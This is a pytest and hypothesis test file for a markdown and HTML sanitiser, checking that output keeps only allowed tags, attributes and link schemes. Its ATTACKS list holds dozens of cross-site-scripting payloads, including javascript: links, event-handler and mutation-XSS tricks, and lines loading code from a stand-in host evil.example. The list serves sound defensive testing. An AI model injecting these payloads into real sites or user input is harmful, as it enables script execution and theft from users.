"""Nothing in a text can run, reach out or dress itself up: known attacks, and invariants over arbitrary texts."""

import re
from collections import Counter

import lxml.html
import pytest
from hypothesis import given
from hypothesis import strategies as st

from bulletin.reading.markdown import convert, make_markdown
from bulletin.reading.sanitising import ATTRIBUTES, CLASSES, TAGS, sanitise
from bulletin.reading.text import prepare_text

CONVERTER = make_markdown("en")
ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<script\n>alert(1)</script\n>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)'>",
    '<img """><script>alert(1)</script>">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<p onmouseover=alert(1)>x</p>",
    "<p/onclick=alert(1)>x</p>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<iframe src=//evil.example></iframe>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src=//evil.example/x.swf>",
    "<form action=//evil.example><input name=x autofocus onfocus=alert(1)><button>x</button></form>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#1;javascript:alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href=x target=_blank ping=//evil.example download>x</a>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img srcset='//evil.example/x 2x' src=x>",
    "<blockquote cite='javascript:alert(1)'>x</blockquote>",
    "<p class=pin data-x=1 contenteditable tabindex=1 accesskey=x slot=x is=x>x</p>",
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](JAVASCRIPT&colon;alert(1))",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "![x](javascript:alert(1))",
    '![x"onerror="alert(1)](x)',
    '[x](https://a/"onclick="alert(1))',
    '[x](https://a/ "t\\" onclick=\\"alert(1)")',
    "<javascript:alert(1)>",
    "`<script>alert(1)</script>`",
    '*[CAC]: " onclick="alert(1)\n\nCAC',
    'x[^a"onclick=alert(1)]\n\n[^a"onclick=alert(1)]: y',
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<xmp><script>alert(1)</script></xmp>",
    "<textarea><script>alert(1)</script></textarea>",
    "<center>&lt;script&gt;alert(1)&lt;/script&gt;</center>",
    "<title><script>alert(1)</script></title>",
    "\x02klzzwxh:0000\x03<script>alert(1)</script>",
]
FRAGMENTS = st.sampled_from(
    [
        *ATTACKS,
        "<p id='p1'>",
        "<h2 id=x>",
        "</p>",
        "# H\n\n",
        "- a\n",
        "> q\n",
        "\n\n",
        "[^1]",
        "[^1]: x\n\n",
        "&#1;",
        "%00",
    ]
)
TEXTS = st.lists(st.one_of(FRAGMENTS, st.text(max_size=12)), max_size=6).map("".join)
SCHEME = re.compile(r"[\0- ]*([a-z][a-z0-9+.-]*):", re.IGNORECASE)


def elements(html: str) -> list[str]:
    """The names of all elements, in their order."""
    return [element.tag for element in lxml.html.fragment_fromstring(html, create_parent="div").iterdescendants()]


def scheme(address: str) -> str:
    """The scheme that a browser sees, which reads over tabs and line ends; empty for a relative address."""
    match = SCHEME.match(re.sub(r"[\t\n\r]", "", address))
    return match[1].lower() if match else ""


def assert_harmless(html: str, own: frozenset[tuple[str, str]] = frozenset()) -> None:
    """Every element and attribute is one we allow, or (element, attribute) of our `own` additions."""
    for element in lxml.html.fragment_fromstring(html, create_parent="div").iterdescendants():
        assert element.tag in TAGS, html
        allowed = ATTRIBUTES["*"] | ATTRIBUTES.get(element.tag, set())
        for name, value in element.items():
            known = name in allowed or (element.tag, name) in own
            assert known or (name == "class" and set(value.split()) <= CLASSES.get(element.tag, set())), html
            assert name not in ("href", "src") or scheme(value) in ("", "http", "https", "mailto"), html


OURS = frozenset(
    {
        *((tag, "class") for tag in ("a", "div", "td", "th")),
        ("a", "aria-label"),
        ("a", "data-mark"),
        ("div", "tabindex"),
        ("img", "loading"),
    }
)


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_known_attack_is_harmless(attack: str) -> None:
    html = sanitise(convert(CONVERTER, attack).html)
    assert_harmless(html)
    assert_harmless(prepare_text(html, "reports").html, OURS)
    assert "rel=" not in html


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_known_attack_is_harmless_as_raw_html(attack: str) -> None:
    assert_harmless(sanitise(attack))


@pytest.mark.parametrize("tag", ["script", "style", "template", "iframe", "object", "noscript"])
def test_what_is_no_text_goes_with_its_content(tag: str) -> None:
    assert sanitise(f"a<{tag}>hidden</{tag}>b") == "ab"


@pytest.mark.parametrize("tag", ["form", "button", "font", "center", "section"])
def test_what_may_hold_text_leaves_it(tag: str) -> None:
    assert sanitise(f"a<{tag}>kept</{tag}>b") == "akeptb"


def test_no_link_gets_a_rel_of_its_own() -> None:
    assert sanitise('<a href="https://example.org/" rel="nofollow" target="_blank">x</a>') == (
        '<a href="https://example.org/">x</a>'
    )


@given(TEXTS)
def test_any_text_comes_out_harmless_with_unique_ids(markdown: str) -> None:
    text = prepare_text(sanitise(convert(CONVERTER, markdown).html), "reports")
    assert_harmless(text.html, OURS)
    ids = Counter(re.findall(r'<[^>]* id="([^"]*)"', text.html))
    assert [name for name, count in ids.items() if count > 1] == []
    assert {f"p{number}" for number in range(1, text.passages + 1)} <= set(ids)


@given(TEXTS)
def test_there_is_nothing_left_to_remove_from_a_sanitised_text(markdown: str) -> None:
    page = prepare_text(sanitise(convert(CONVERTER, markdown).html), "reports").html
    again = sanitise(page)
    assert_harmless(again)
    assert elements(again) == elements(page)
